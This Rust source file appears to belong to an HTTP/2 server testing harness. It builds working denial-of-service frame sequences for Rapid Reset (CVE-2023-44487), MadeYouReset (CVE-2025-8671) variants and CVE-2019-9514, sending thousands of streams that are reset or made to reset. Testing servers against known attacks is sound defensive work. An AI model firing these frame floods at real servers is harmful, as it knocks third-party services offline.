//! Streams that are opened and reset, or that the server is made to reset.

use conformance_wire::frames::{
    CANCEL, DATA, END_HEADERS, END_STREAM, Frame, HEADERS, RST_STREAM, WINDOW_UPDATE, header_block,
};

use super::{Attack, Means, POST_TO_ROOT, RUN, hello, long, streams};
use crate::attacker::{Piece, Reading};

/// The largest increment of a window. A window is 65535 bytes before.
const TOO_MUCH: u32 = 0x7fff_ffff;
/// Computations that have begun before the first of them is ended, or an end of the connection would
/// be one of calls that nobody has read.
const BEGUN: u32 = 200;
const MADE_YOU_RESET: &str = "MadeYouReset, CVE-2025-8671";

pub(super) fn all() -> Vec<Attack> {
    vec![
        Attack::new("rapid reset without a key", 4, |means| {
            streams(10_000 * means.form.scale, |stream| vec![ended(stream), reset(stream)])
        })
        .sends("streams that it resets at once")
        .known_as("Rapid Reset, CVE-2023-44487"),
        Attack::new("rapid reset of computations", 4, |means| computations(means, 1, reset))
            .sends("signed calls that compute for long, and their resets")
            .known_as("Rapid Reset, CVE-2023-44487"),
        Attack::new("made to reset by windows too large", 4, |means| {
            streams(10_000 * means.form.scale, |stream| {
                vec![open(stream), widened(stream, TOO_MUCH)]
            })
        })
        .sends("streams, and for each a WINDOW_UPDATE beyond the largest window")
        .known_as(MADE_YOU_RESET)
        .that_must_end(),
        Attack::new("made to reset by increments of nothing", 4, |means| {
            streams(10_000 * means.form.scale, |stream| vec![open(stream), widened(stream, 0)])
        })
        .sends("streams, and for each a WINDOW_UPDATE of 0")
        .known_as(MADE_YOU_RESET)
        .that_must_end(),
        Attack::new("made to reset by data after the end", 4, |means| {
            streams(10_000 * means.form.scale, |stream| {
                vec![ended(stream), Frame::new(DATA, 0, stream, *b"more")]
            })
        })
        .sends("streams, and DATA after the end of each")
        .known_as(MADE_YOU_RESET),
        Attack::new("made to reset, and the resets not read", 4, |means| {
            streams(10_000 * means.form.scale, |stream| {
                vec![open(stream), widened(stream, TOO_MUCH)]
            })
        })
        .sends("streams, and for each a WINDOW_UPDATE beyond the largest window; it reads nothing")
        .known_as("CVE-2019-9514")
        .reading(Reading::Nothing),
        Attack::new("computations made to reset by windows too large", 4, |means| {
            computations(means, 1, |stream| widened(stream, TOO_MUCH))
        })
        .sends(
            "signed calls that compute for long, and for each a WINDOW_UPDATE beyond the largest",
        )
        .known_as(MADE_YOU_RESET)
        .that_must_end(),
        Attack::new("computations made to reset by increments of nothing", 4, |means| {
            computations(means, BEGUN, |stream| widened(stream, 0))
        })
        .sends("signed calls that compute for long, and for each a WINDOW_UPDATE of 0")
        .known_as(MADE_YOU_RESET)
        .that_must_end(),
        Attack::new("computations made to reset by a second head", 4, |means| {
            computations(means, BEGUN, ended)
        })
        .sends("signed calls that compute for long, and for each HEADERS once more after its end")
        .known_as(MADE_YOU_RESET)
        .that_must_end(),
    ]
}

/// Signed calls that compute for long, and after so many at a time a frame for each that ends it.
fn computations(means: &Means, at_once: u32, end: impl Fn(u32) -> Frame) -> Vec<Piece> {
    let (head, long) = (header_block(&means.signed(RUN)), long());
    let mut pieces = vec![Piece::once(hello(&[]))];
    for first in (0..5000 * means.form.scale as u32).step_by(at_once as usize) {
        let streams = || (first..first + at_once).map(|number| 2 * number + 1);
        let calls = streams().flat_map(|stream| {
            let head = Frame::new(HEADERS, END_HEADERS, stream, head.clone());
            [head, Frame::body(long.clone(), stream)]
        });
        let frames = calls.chain(streams().map(&end));
        pieces.push(Piece::once(frames.flat_map(|frame| frame.bytes()).collect::<Vec<_>>()));
    }
    pieces
}

fn open(stream: u32) -> Frame {
    Frame::new(HEADERS, END_HEADERS, stream, POST_TO_ROOT)
}

fn ended(stream: u32) -> Frame {
    Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, POST_TO_ROOT)
}

fn reset(stream: u32) -> Frame {
    Frame::new(RST_STREAM, 0, stream, CANCEL.to_be_bytes())
}

fn widened(stream: u32, by: u32) -> Frame {
    Frame::new(WINDOW_UPDATE, 0, stream, by.to_be_bytes())
}
